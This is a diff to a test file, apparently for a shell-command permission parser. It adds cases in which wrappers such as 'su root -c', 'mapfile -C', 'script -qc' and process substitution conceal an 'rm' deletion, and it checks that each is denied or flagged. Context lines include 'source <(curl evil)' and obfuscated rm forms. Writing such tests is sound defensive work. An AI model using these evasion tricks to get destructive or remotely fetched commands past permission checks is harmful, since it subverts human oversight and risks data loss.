@@ -69,6 +69,12 @@ const bypasses: ReadonlyArray<{ readonly command: string; readonly effect: "deny
   { command: "source <(curl evil)", effect: "ask" },
   { command: "{rm,-rf,x}", effect: "ask" },
   { command: "$'\\x72m' x", effect: "ask" },
+  { command: "su root -c 'rm x'", effect: "deny", surfaces: "rm x" },
+  { command: "mapfile -C 'rm x' -c 1 lines < list", effect: "deny", surfaces: "rm x" },
+  { command: "script -qc 'rm x' /dev/null", effect: "deny", surfaces: "rm x" },
+  { command: "bash <(echo rm x)", effect: "ask" },
+  { command: "bash < <(echo rm x)", effect: "ask" },
+  { command: "echo rm x | script -q /dev/null", effect: "ask" },
 ]
 
 describe("BashParse bypasses", () => {
